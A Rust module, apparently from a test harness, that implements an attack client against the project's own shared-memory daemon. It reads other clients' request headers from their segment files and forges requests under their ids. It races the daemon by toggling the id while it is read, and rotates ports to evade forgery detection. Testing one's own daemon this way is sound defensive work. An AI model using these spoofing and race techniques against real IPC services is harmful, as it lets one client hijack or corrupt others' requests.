//! A client that sends requests under another client's id, so that the other takes the answer for its
//! own. It reads the other's request in shared memory and sends a copy of the header with empty
//! boxes.

use std::fs;
use std::time::{Duration, Instant};

use pairmask_core::Aabb;
use pairmask_core::units::BoxCount;
use pairmask_wire::{REQUEST_MAGIC, RequestHeader, entries_in_mut};

use super::raw::{
    CHANNEL_ID, CLIENT_ID, REQUEST_ID, RawClient, SENT_BYTES, read, segment_file, word, write,
};
use super::{Tally, Until, count, while_they_alternate};

/// Boxes of the attacker's requests: at least as many as the victims send.
const BOXES: u32 = 2_000;
const PAGES: usize = 2_000 * 24 / 4096 + 1;

/// A request of another client, as read in shared memory.
struct Seen {
    port: u128,
    channel: u64,
    request: u64,
    header: RequestHeader,
}

pub fn attack(until: &Until, tally: &mut Tally) {
    let token = 1 << 43;
    while let Some(client) = RawClient::reconnect(token, PAGES, until) {
        let own = client.ports.port.id().value();
        let mut victims = Vec::new();
        client.services.for_each_sender(|sender| {
            if sender.port != own {
                victims.push(sender.port);
            }
        });
        let begun = Instant::now();
        let mut last = 0;
        // The daemon ignores a port that it has recognised as forging; so the attacker makes a new
        // one every 20 ms.
        while !until.is_over() && begun.elapsed() < Duration::from_millis(20) {
            let requests = victims.iter().flat_map(|port| seen(*port));
            let Some(seen) = requests.max_by_key(|seen| seen.header.frame) else { continue };
            if seen.header.frame == last {
                continue;
            }
            last = seen.header.frame;
            let Some(mut loan) = client.loan(PAGES) else { break };
            if let Some(boxes) = entries_in_mut(loan.payload_mut(), BoxCount::new(BOXES)) {
                boxes.fill(Aabb::EMPTY);
            }
            *loan.user_header_mut() = seen.header;
            let id = word(loan.header(), CLIENT_ID);
            let own_id = [read(id), read(id + 8)];
            let theirs = [seen.port as u64, (seen.port >> 64) as u64];
            let put = |[low, high]: [u64; 2]| {
                write(id, low);
                write(id + 8, high);
            };
            put(theirs);
            let forged = [(CHANNEL_ID, seen.channel), (REQUEST_ID, seen.request)];
            let words = forged.map(|(index, value)| {
                let address = word(loan.header(), index);
                let own = read(address);
                write(address, value);
                (address, own)
            });
            let Some(pending) = client.send(loan) else { break };
            count(tally, "rounds");
            // The id alternates between the victim's and the attacker's while the daemon reads it.
            let states: [&(dyn Fn() + Sync); 2] = [&|| put(own_id), &|| put(theirs)];
            while_they_alternate(true, states, || {
                std::thread::sleep(Duration::from_micros(300));
            });
            put(own_id);
            for (address, own) in words {
                write(address, own);
            }
            drop(pending);
        }
        std::thread::sleep(Duration::from_millis(5));
    }
}

fn seen(port: u128) -> Vec<Seen> {
    let Some(bytes) = segment_file(port).and_then(|file| fs::read(file).ok()) else {
        return Vec::new();
    };
    let word_at = |at: usize| bytes.get(at..at + 8).map(bytemuck::pod_read_unaligned::<u64>);
    let mut found = Vec::new();
    for at in (SENT_BYTES..bytes.len().saturating_sub(size_of::<RequestHeader>())).step_by(8) {
        if bytes[at..at + 4] != REQUEST_MAGIC.to_ne_bytes() {
            continue;
        }
        let sent = at - SENT_BYTES;
        let header = bytemuck::pod_read_unaligned(&bytes[at..at + size_of::<RequestHeader>()]);
        let words = word_at(sent + 8 * CHANNEL_ID).zip(word_at(sent + 8 * REQUEST_ID));
        if let Some((channel, request)) = words {
            found.push(Seen { port, channel, request, header });
        }
    }
    found
}
